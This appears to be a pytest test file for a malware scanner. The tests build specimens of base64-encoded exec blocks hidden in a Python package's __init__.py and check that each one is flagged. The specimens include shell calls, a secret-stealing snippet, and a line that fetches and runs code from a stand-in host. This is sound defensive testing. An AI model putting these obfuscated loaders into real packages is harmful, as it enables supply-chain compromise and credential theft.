"""Encoded text that is executed: what only defines things weighs less, and whatever acts, or may act, does not."""

import base64

import pytest

from lazaretto.core.policy import Outcome
from tests.evasion.specimen import COMMAND, PY_STEAL, Specimen, ask, told

_GO = f"import os\ndef go(name='x'):\n    os.system('{COMMAND}')\n"
_MAIN = _GO + "if __name__ == '__main__':\n    go()\n"


def _runs(text: str, names: str = ", globals()") -> str:
    encoded = base64.b64encode(text.encode()).decode()
    return f"import base64\nexec(base64.b64decode('{encoded}').decode(){names})\n"


def _specimen(title: str, code: str, before: str = "WIDTH = 2\n") -> Specimen:
    # A line in which encoded text was executed before: that it is, is no news, and what it does has to be told.
    return Specimen(
        row="encoded programs",
        title=title,
        before={"pad/__init__.py": before},
        after={"pad/__init__.py": code + before},
        ecosystem="pypi",
    )


_QUIET = _runs("import os, typing\ndef width(name):\n    return os.path.join('a', name)\n")
_ACTS = {
    "it spawns as it runs": _runs(_GO + "go()\n"),
    "it is called behind": _runs(_GO) + "go()\n",
    "it is called by a table": _runs(_GO + "HANDLERS = {'go': go}\n") + "HANDLERS['go']()\n",
    "it decorates": _runs(_GO + "@go\ndef f(): ...\n"),
    "it reads secrets and sends them": _runs("def f(): ...\n" + PY_STEAL),
    "it runs what it fetches": _runs("import urllib.request\nexec(urllib.request.urlopen('https://a.invalid/').read())\n"),
    "it is told that it is the main program": _runs(_MAIN, ", {'__name__': '__main__'}"),
    "the module names itself": "__name__ = '__main__'\n" + _runs(_MAIN),
    "the text names itself": _runs("__name__ = '__main__'\n" + _MAIN),
    "the table of names is changed": "globals()['__name__'] = '__main__'\n" + _runs(_MAIN),
    "the table of names is updated": "g = globals()\ng.update(__name__='__main__')\n" + _runs(_MAIN),
    "it calls what another module has": _runs("from .core import go\ndef f(): ...\ngo()\n"),
    "another module decorates": _runs("from .core import go\n@go\ndef f(): ...\n"),
    "a known function is handed a strange one": _runs("from .core import go\ndef f(g):\n    g()\nf(str)\nf(go)\n"),
    "it holds another one": _runs("def f(): ...\n" + _runs(_GO + "go()\n", "")),
    "it defines nothing": _runs("import pad.core\n"),
    "not all of it is understood": _runs("def f(): ...\n" + _runs(_runs(_runs(_runs(_runs("def g(): ...\n")))))),
    "half of it comes from elsewhere": _runs("def f(): ...\n", "").replace(".decode()", ".decode() + base64.MORE"),
}  # fmt: skip


@pytest.mark.parametrize("title", _ACTS)
def test_what_acts_is_held(title: str) -> None:
    """A program that defines some functions, too, still acts."""
    analysis = ask(_specimen(title, _ACTS[title]))

    assert analysis.outcome is not Outcome.ALLOW, told(analysis)
    assert "decoded-code-executed/defines" not in told(analysis)


@pytest.mark.parametrize("title", _ACTS)
def test_what_acts_is_no_definition_at_first_contact(title: str) -> None:
    """Nor where there is no earlier release."""
    specimen = _specimen(title, _ACTS[title])
    analysis = ask(Specimen(row=specimen.row, title=title, after=specimen.after, ecosystem="pypi"))

    assert analysis.outcome is not Outcome.ALLOW, told(analysis)
    assert "first-contact-defines" not in told(analysis)


def test_what_only_defines_is_told_once() -> None:
    """What such a text imports in plain words is hidden no further, and its style is that of the same place."""
    again = ask(_specimen("again", _QUIET.replace("exec", "WIDTH = 3\nexec"), before=_runs("def old(): ...\n")))
    first = ask(Specimen(row="encoded programs", title="first", after={"pad/__init__.py": _QUIET}, ecosystem="pypi"))

    assert "12 dB: ['decoded-code-executed/defines at pad/__init__.py:3'] []" in told(again)
    assert "12 dB: ['decoded-code-executed/first-contact-defines at pad/__init__.py:2'] []" in told(first)


def test_what_its_functions_do_is_told_beside() -> None:
    """Where its functions send secrets, a caller is all that is missing."""
    steals = _runs("def go():\n" + "".join(f"    {line}\n" for line in PY_STEAL.splitlines()))
    analysis = ask(_specimen("calls", steals))

    assert "decoded-code-executed/defines" in told(analysis)
    assert analysis.outcome is not Outcome.ALLOW, told(analysis)


def test_a_name_that_is_encoded_once_more_is_hidden() -> None:
    """The text of a program is no cover for what it hides itself."""
    inner = base64.b64encode(b"socket").decode()
    text = f"import base64\ndef f(): ...\n__import__(base64.b64decode('{inner}').decode())\n"
    analysis = ask(_specimen("name", _runs(text)))

    assert "hidden-argument-added/import" in told(analysis)


def test_a_command_that_is_encoded_once_more_is_told() -> None:
    """A function of such a text that decodes its command hides it from whoever decodes the text."""
    inner = base64.b64encode(COMMAND.encode()).decode()
    text = f"import base64, os\ndef go():\n    os.system(base64.b64decode('{inner}').decode())\n"

    assert "decoded-code-executed/call" in told(ask(_specimen("command", _runs(text))))
    assert "decoded-code-executed/call" not in told(ask(_specimen("plain", _runs(_GO))))


def test_what_cannot_be_decoded_is_not_executed() -> None:
    """A name that a build is to replace is no base64: the decoder refuses it, and nothing behind it runs."""
    code = "import base64\nTEXT = base64.b64decode('''\n@PAD-TEXT@\n'''.encode())\nexec(TEXT.decode(), globals())\n"

    assert "decoded-code-executed" not in told(ask(_specimen("placeholder", code)))
